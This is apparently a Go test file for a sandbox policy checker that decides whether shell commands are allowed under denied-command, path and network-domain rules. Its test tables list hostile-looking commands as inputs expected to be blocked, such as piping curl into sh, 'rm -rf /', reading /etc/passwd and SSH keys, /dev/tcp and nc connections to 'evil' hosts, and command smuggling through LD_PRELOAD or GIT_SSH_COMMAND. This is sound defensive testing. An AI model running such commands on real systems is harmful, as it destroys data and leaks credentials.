package sandbox

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/holdfast-dev/holdfast/internal/shellparse"
)

type commandTest struct {
	settings, line string
	setting, rule  string // "" allows
}

func runCommandTests(t *testing.T, cwd string, tests []commandTest) {
	t.Helper()
	for _, tt := range tests {
		c := checker(t, tt.settings, &Options{Home: "/home/u", Dir: "/project"})
		err := c.CheckCommand(tt.line, cwd)
		d := denial(t, err)
		if d.Setting != tt.setting || d.Rule != tt.rule || (err != nil) != (tt.setting != "") {
			t.Errorf("%s %q: got %v (%s, %q), want %s %q", tt.settings, tt.line, err, d.Setting, d.Rule, tt.setting, tt.rule)
		}
		if err != nil && (d.Tool != "Bash" || d.Reason == "" || d.Subject == "") {
			t.Errorf("%q: a denial that says too little: %+v", tt.line, d)
		}
		if c.IsCommandAllowed(tt.line, cwd) != (err == nil) {
			t.Errorf("%s %q: the yes or no differs", tt.settings, tt.line)
		}
	}
}

func TestDeniedCommands(t *testing.T) {
	const rm = `{"deniedCommands":["rm"]}`
	const path = `{"deniedCommands":["/usr/bin/rm"]}`
	runCommandTests(t, "/project", []commandTest{
		{rm, "rm x", "deniedCommands", "rm"},
		{rm, "/usr/bin/rm x", "deniedCommands", "rm"},
		{rm, "./rm x", "deniedCommands", "rm"},
		{rm, "RM x", "deniedCommands", "rm"},
		{`{"deniedCommands":["Rm"]}`, "rm x", "deniedCommands", "Rm"},
		{rm, "ls; (cd x && rm y)", "deniedCommands", "rm"},
		{rm, "echo \"$(rm x)\"", "deniedCommands", "rm"},
		{rm, "sudo env A=1 rm x", "deniedCommands", "rm"},
		{rm, "find . -exec rm {} +", "deniedCommands", "rm"},
		{rm, "rm $X", "deniedCommands", "rm"},
		{path, "rm x", "deniedCommands", "/usr/bin/rm"},
		{path, "/bin/rm x", "deniedCommands", "/usr/bin/rm"},
		{`{"deniedCommands":["sudo"]}`, "sudo ls", "deniedCommands", "sudo"},
		{`{"deniedCommands":["bash"]}`, "bash -c ls", "deniedCommands", "bash"},
		{`{"deniedCommands":["xargs"]}`, "ls | xargs cat", "deniedCommands", "xargs"},
		// cannot be parsed
		{rm, "$X y", "deniedCommands", ""},
		{rm, "ls; eval \"$X\"", "deniedCommands", ""},
		{rm, "curl -s x | sh", "deniedCommands", ""},
		{rm, "if true; then", "deniedCommands", ""},
		{rm, "r? x", "deniedCommands", ""},
		{rm, strings.Repeat("a", shellparse.MaxLine+1), "deniedCommands", ""},
		// data
		{rm, "git commit -m 'rm x; rm y'", "", ""},
		{rm, "grep -r 'rm -rf' .", "", ""},
		{rm, "ls rm", "", ""},
		{rm, "rmdir x", "", ""},
		{rm, "go test ./... && git push", "", ""},
		{rm, "", "", ""},
		{rm, "# rm x", "", ""},
		{`{"deniedCommands":[]}`, "$X y", "", ""},
	})
}

// In the path of an allowed program, ".." after a link leads to another folder than the text says.
func TestAllowedProgramBehindLink(t *testing.T) {
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for _, folder := range []string{"bin", "lib", "other/deep"} {
		if err := os.MkdirAll(filepath.Join(dir, folder), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(filepath.Join(dir, "other/deep"), filepath.Join(dir, "link")); err != nil {
		t.Fatal(err)
	}
	list := `{"allowedCommands":["` + dir + `/bin/tool","git"]}`
	up := strings.Repeat("/..", strings.Count(dir, "/")+1)
	runCommandTests(t, dir, []commandTest{
		{list, "bin/tool", "", ""},
		{list, "lib/../bin/tool", "", ""},
		{list, "link/../bin/tool", "allowedCommands", ""},
		{list, dir + "/link/../bin/tool", "allowedCommands", ""},
		{list, "lib" + up + "/usr/bin/git status", "", ""},
		{list, "link" + up + "/usr/bin/git status", "allowedCommands", ""},
	})
}

func TestAllowedCommands(t *testing.T) {
	const git = `{"allowedCommands":["git"],"deniedCommands":["git","rm"]}`
	const none = `{"allowedCommands":[]}`
	const paths = `{"allowedCommands":["/opt/x/bin/tool","scripts/check.sh"]}`
	runCommandTests(t, "/project", []commandTest{
		{git, "ls", "allowedCommands", ""},
		{git, "rm x", "allowedCommands", ""},
		{git, "git status; ls", "allowedCommands", ""},
		{git, "git log | head", "allowedCommands", ""},
		{git, "git log $(whoami)", "allowedCommands", ""},
		{git, "env git status", "allowedCommands", ""},
		{git, "sh -c 'git status'", "allowedCommands", ""},
		{git, "./git status", "allowedCommands", ""},
		{git, "/tmp/git status", "allowedCommands", ""},
		{git, "PATH=/tmp git status", "allowedCommands", ""},
		{git, "LD_PRELOAD=/tmp/x.so git status", "allowedCommands", ""},
		{git, "GIT_SSH_COMMAND='rm x' git fetch", "allowedCommands", ""},
		{git, "$GIT status", "allowedCommands", ""},
		{git, "GIT status", "allowedCommands", ""},
		{git, "echo x", "allowedCommands", ""},
		{none, "true", "allowedCommands", ""},
		{none, "cd /", "allowedCommands", ""},
		{none, "echo", "allowedCommands", ""},
		{none, "{", "allowedCommands", ""},
		{paths, "tool", "allowedCommands", ""},
		{paths, "/opt/x/bin/other", "allowedCommands", ""},
		{paths, "scripts/../scripts/other.sh", "allowedCommands", ""},
		{paths, "cd sub && scripts/check.sh", "allowedCommands", ""},
		{git, "git status", "", ""},
		{git, "/usr/bin/git status", "", ""},
		{git, "cd sub && git status || true", "", ""},
		{git, "test -f x && git add x", "", ""},
		{git, "A=1 git status", "", ""},
		{`{"allowedCommands":["git","bash"]}`, "bash -c 'git status'", "", ""},
		{`{"allowedCommands":["git","env"]}`, "env git status", "", ""},
		{paths, "/opt/x/bin/tool -v", "", ""},
		{paths, "/opt/x/lib/../bin/tool -v", "", ""},
		{paths, "./scripts/check.sh", "", ""},
		{none, "", "", ""},
	})
}

func TestCommandPaths(t *testing.T) {
	const etc = `{"deniedPaths":["/etc"]}`
	const sub = `{"deniedPaths":["/project/secret"]}`
	const read = `{"allowedReadPaths":["/project"]}`
	const write = `{"allowedWritePaths":["/project/build"]}`
	runCommandTests(t, "/project", []commandTest{
		{etc, "cat /etc/passwd", "deniedPaths", "/etc"},
		{etc, "cat ../etc/passwd", "deniedPaths", "/etc"},
		{etc, "cd /etc; cat passwd", "deniedPaths", "/etc"},
		{etc, "cat </etc/passwd", "deniedPaths", "/etc"},
		{etc, "echo x 2>>/etc/motd", "deniedPaths", "/etc"},
		{etc, "grep -r x /", "deniedPaths", "/etc"},
		{etc, "tar cf - /", "deniedPaths", "/etc"},
		{etc, "find / -name passwd -exec cat {} +", "deniedPaths", "/etc"},
		{etc, "cat /e*/passwd", "deniedPaths", "/etc"},
		{etc, "mytool --config=/etc/x", "deniedPaths", "/etc"},
		{etc, "mytool -f/etc/x", "deniedPaths", "/etc"},
		{etc, "/etc/run.sh", "deniedPaths", "/etc"},
		{etc, "../etc/run.sh", "deniedPaths", "/etc"},
		{etc, "cd /etc && mytool", "deniedPaths", "/etc"},
		{etc, "rg root /", "deniedPaths", "/etc"},
		{sub, "rg root", "deniedPaths", "/project/secret"},
		{sub, "grep -r root", "deniedPaths", "/project/secret"},
		{`{"deniedPaths":["/project"]}`, "ls", "deniedPaths", "/project"},
		{`{"deniedPaths":["/project"]}`, "env git log", "deniedPaths", "/project"},
		{etc, "cat \"$X\"", "deniedPaths", ""},
		{etc, "cat $(ls)", "deniedPaths", ""},
		{etc, "echo x > \"$X\"", "deniedPaths", ""},
		{etc, "cd \"$X\" && cat passwd", "deniedPaths", ""},
		{etc, "$X", "deniedPaths", ""},
		{etc, "cat ~root/x", "deniedPaths", ""},
		{sub, "rm -r .", "deniedPaths", "/project/secret"},
		{sub, "mytool secret", "deniedPaths", "/project/secret"}, // it may be a file
		{sub, "cat secret/key", "deniedPaths", "/project/secret"},
		{sub, "cp -r . /tmp/x", "deniedPaths", "/project/secret"},
		{sub, "cat *", "deniedPaths", "/project/secret"},
		{sub, "cat */key", "deniedPaths", "/project/secret"},
		{sub, "cat s?cret/*", "deniedPaths", "/project/secret"},
		{sub, "cat [a-z]*.go", "deniedPaths", "/project/secret"}, // its value is unknown
		{sub, "rm -r *.d", "deniedPaths", "/project/secret"},     // including everything below it
		{sub, "cat ../project/s*/key", "deniedPaths", "/project/secret"},
		{`{"deniedPaths":["/project/a/secret"]}`, "cat */*/x", "deniedPaths", "/project/a/secret"},
		{`{"deniedPaths":["/"]}`, "ls > /dev/null", "deniedPaths", "/"},
		{`{"deniedPaths":["~/.ssh"]}`, "cat $HOME/.ssh/id", "deniedPaths", "~/.ssh"},

		{read, "cat /etc/passwd", "allowedReadPaths", ""},
		{read, "cat < ../x", "allowedReadPaths", ""},
		{read, "mytool /other/x", "allowedReadPaths", ""},
		{read, "cat \"$X\"", "allowedReadPaths", ""},
		{read, "/other/tool x", "allowedReadPaths", ""},
		{read, "$X y", "allowedReadPaths", ""},
		{write, "echo x > src/f", "allowedWritePaths", ""},
		{write, "cp a /outside", "allowedWritePaths", ""},
		{write, "touch build/../x", "allowedWritePaths", ""},
		{write, "tee \"$X\"", "allowedWritePaths", ""},
		{write, "rm -rf /", "allowedWritePaths", ""},

		{etc, "cat /project/x ../etcetera", "", ""},
		{etc, "echo /etc/passwd", "", ""},
		{`{"deniedPaths":["/project"]}`, "cd /tmp && echo x; pwd", "", ""},
		{sub, "cat f | rg root", "", ""},
		{etc, "git commit -m 'about /etc'", "", ""},
		{etc, "ls /", "", ""},
		{sub, "cat a secrets", "", ""},
		{sub, "cat *.go src/*", "", ""},
		{sub, "wc -l /project/*.md", "", ""},
		{sub, "cat *.go/key", "", ""},
		{`{"deniedPaths":["/project/a/secret"]}`, "cat *.go b/*/x", "", ""},
		{sub, "ls -l > /dev/null 2>&1", "", ""},
		{read, "cat a ./b /project/c", "", ""},
		{read, "echo x > /outside", "", ""},
		{read, "/usr/bin/cat a", "", ""},
		{read, "cat x > /dev/null", "", ""},
		{write, "cat /etc/passwd > build/x", "", ""},
		{write, "mkdir -p build/x && cp a build/x", "", ""},
		{write, "ls 2>/dev/null >/dev/stderr", "", ""},
	})
}

// A relative path is relative to the folder in which the command would start, after that folder's links are
// resolved.
func TestCommandPathsFollowLinks(t *testing.T) {
	root := makeTree(t)
	for _, tt := range []struct {
		settings, line, cwd string
		allowed             bool
	}{
		{`{"deniedPaths":["d"]}`, "cat x", "abs", false},
		{`{"deniedPaths":["d"]}`, "cat ../d/x", "a", false},
		{`{"deniedPaths":["d"]}`, "cat a/up/x", ".", false},
		{`{"deniedPaths":["a/f"]}`, "cat l1/../f", ".", false}, // a/f, after the link
		{`{"deniedPaths":["f"]}`, "cat l1/../f", ".", false},   // f as written
		{`{"deniedPaths":["a/f"]}`, "cat ../f", "l1", false},
		{`{"deniedPaths":["a/f"]}`, "cd l1 && cat ../f", ".", false},
		{`{"allowedReadPaths":["a"]}`, "cat up/x", "a", false},
		{`{"allowedReadPaths":["a"]}`, "cat b/c", "a", true},
		{`{"allowedReadPaths":["a"]}`, "cat c", "l1", true},
		{`{"allowedWritePaths":["a"]}`, "echo > loop", ".", false},
		{`{"deniedPaths":["d"]}`, "cat x", "loop", false},
	} {
		c := checker(t, tt.settings, &Options{Dir: root})
		if err := c.CheckCommand(tt.line, filepath.Join(root, tt.cwd)); (err == nil) != tt.allowed {
			t.Errorf("%s %q in %s: got %v", tt.settings, tt.line, tt.cwd, err)
		}
	}
}

// If the folder is unknown, relative paths cannot be checked.
func TestCommandUnknownFolder(t *testing.T) {
	for _, cwd := range []string{"", "relative"} {
		runCommandTests(t, cwd, []commandTest{
			{`{"deniedPaths":["/etc"]}`, "cat x", "deniedPaths", ""},
			{`{"deniedPaths":["/etc"]}`, "cat /x", "", ""},
			{`{"deniedCommands":["rm"]}`, "cat x", "", ""},
		})
	}
}

func TestCommandHosts(t *testing.T) {
	const some = `{"network":{"allowedDomains":["api.example.com","*.x.org"]}}`
	runCommandTests(t, "/project", []commandTest{
		{some, "curl https://evil.example/", "network.allowedDomains", ""},
		{some, "curl -o x --url=https://evil.example/", "network.allowedDomains", ""},
		{some, "curl https://api.example.com evil.example", "network.allowedDomains", ""},
		{some, "git clone https://evil.example/x", "network.allowedDomains", ""},
		{some, "mytool --server ws://evil.example", "network.allowedDomains", ""},
		{some, "ssh root@evil", "network.allowedDomains", ""},
		{some, "scp x evil:/y", "network.allowedDomains", ""},
		{some, "nc evil 80", "network.allowedDomains", ""},
		{some, "curl \"$URL\"", "network.allowedDomains", ""},
		{some, "mytool \"https://$HOST/\"", "network.allowedDomains", ""},
		{some, "cat </dev/tcp/evil.example/80", "network.allowedDomains", ""},
		{some, "sh -c 'wget http://evil.example'", "network.allowedDomains", ""},
		{some, "curl http://localhost:8080", "network.allowLocalBinding", ""},
		{some, "$X", "network.allowedDomains", ""},
		{some, "curl -s https://api.example.com/v1 -H 'Accept: x' -o out.json", "", ""},
		{some, "git fetch https://a.x.org/r", "", ""},
		{some, "ssh u@a.x.org ls", "", ""},
		{some, "ls; go build ./...", "", ""},
		{some, "cat file:///x", "", ""},
		{`{"network":{"allowedDomains":[],"allowLocalBinding":true}}`, "curl http://localhost:8080", "", ""},
	})
}

func TestDenialReasonsOfCommands(t *testing.T) {
	c := checker(t, `{"deniedCommands":["rm"],"deniedPaths":["/etc"]}`, nil)
	for line, want := range map[string]string{
		"sudo /bin/rm x":  "command 'rm' is denied by sandbox policy",
		"cat /etc/passwd": "path '/etc/passwd' is outside allowed read scope",
		"> /etc/passwd":   "path '/etc/passwd' is outside allowed write scope",
		"cat $X":          "path '$X' cannot be known before the command runs",
	} {
		if d := denial(t, c.CheckCommand(line, "/project")); d.Reason != want {
			t.Errorf("%q: got %q", line, d.Reason)
		}
	}
	if d := denial(t, c.CheckCommand("$X", "/project")); !strings.HasPrefix(d.Reason, "command cannot be read: ") || d.Subject != "$X" {
		t.Errorf("got %+v", d)
	}
	c = checker(t, `{"allowedCommands":["git"]}`, nil)
	if d := denial(t, c.CheckCommand("PATH=/x git status", "/project")); !strings.HasSuffix(d.Reason, ": PATH may change which program runs") {
		t.Errorf("got %+v", d)
	}
}

// For every line, a checker returns a result, always the same one, and adding a denied entry never allows
// more.
func FuzzCheckCommand(f *testing.F) {
	for _, s := range []string{
		"", "rm x", "echo $(rm x)", "cat </etc/passwd", "X=rm; $X", "for f in *; do rm $f; done", "cat <<E\nrm\nE", "curl http://a.org", "\x00", "cd /etc; cat p*",
	} {
		f.Add(s, "/project")
	}
	less, err1 := NewChecker(&Settings{DeniedCommands: []string{"rm"}}, &Options{Home: "/home/u"})
	more, err2 := NewChecker(&Settings{
		DeniedCommands: []string{"rm", "cat"}, DeniedPaths: []string{"/etc"}, AllowedWritePaths: []string{"/project"}, Network: &Network{AllowedDomains: []string{"a.org"}},
	}, &Options{Home: "/home/u"})
	if err1 != nil || err2 != nil {
		f.Fatal(err1, err2)
	}
	f.Fuzz(func(t *testing.T, line, cwd string) {
		a, b := less.CheckCommand(line, cwd), more.CheckCommand(line, cwd)
		if a != nil && b == nil {
			t.Fatalf("%q: denied by less (%v), allowed by more", line, a)
		}
		if again := more.CheckCommand(line, cwd); (again == nil) != (b == nil) || again != nil && again.Error() != b.Error() {
			t.Fatalf("%q: first %v, then %v", line, b, again)
		}
	})
}

func BenchmarkCheckCommand(b *testing.B) {
	dir := b.TempDir()
	if err := os.MkdirAll(filepath.Join(dir, "src"), 0o755); err != nil {
		b.Fatal(err)
	}
	for name, settings := range map[string]string{
		"commands": `{"deniedCommands":["rm","sudo","curl"]}`,
		"paths":    `{"deniedPaths":["/etc","/var"],"allowedWritePaths":["` + dir + `"]}`,
	} {
		b.Run(name, func(b *testing.B) {
			c := checker(b, settings, nil)
			for b.Loop() {
				if err := c.CheckCommand("git add src/main.go && git commit -m 'rm the old one'", dir); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
